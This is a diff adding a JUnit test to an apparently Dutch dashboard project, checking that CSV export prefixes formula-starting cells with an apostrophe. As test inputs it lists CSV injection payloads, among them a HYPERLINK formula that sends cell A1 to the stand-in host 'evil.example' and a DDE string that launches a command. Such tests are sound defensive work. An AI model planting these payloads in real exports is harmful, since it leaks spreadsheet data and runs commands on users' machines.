@@ -1,0 +1,31 @@
+package nl.samenspraak.dashboard;
+
+import nl.samenspraak.support.ExcelCsv;
+import org.junit.jupiter.api.Test;
+
+import java.util.List;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+
+/** Every CSV cell that a spreadsheet would run as a formula is written as text, whatever column it is in. */
+class ExportFilesTest {
+
+    @Test
+    void cellsThatStartAFormulaGetAnApostropheAndReadBackAsText() {
+        List<String> dangerous = List.of("=1+1", "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", " =1+1",
+                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "=cmd|' /C calc'!A0");
+        List<String> harmless = List.of("Tolk", "1+1", "a=b", "", "Çok teşekkürler; \"lütfen\"", "شكرا");
+        List<String> row = new java.util.ArrayList<>(dangerous);
+        row.addAll(harmless);
+        ExportTable table = new ExportTable(List.of("h" + row.size()), List.of(row));
+        List<List<String>> read = ExcelCsv.read(ExportFiles.csv(table));
+        assertEquals(2, read.size());
+        List<String> cells = read.get(1);
+        for (int i = 0; i < dangerous.size(); i++) {
+            assertEquals("'" + dangerous.get(i), cells.get(i));
+            assertFalse(ExcelCsv.runsAsFormula(cells.get(i)), cells.get(i));
+        }
+        assertEquals(harmless, cells.subList(dangerous.size(), cells.size()), "other cells as they were");
+    }
+}
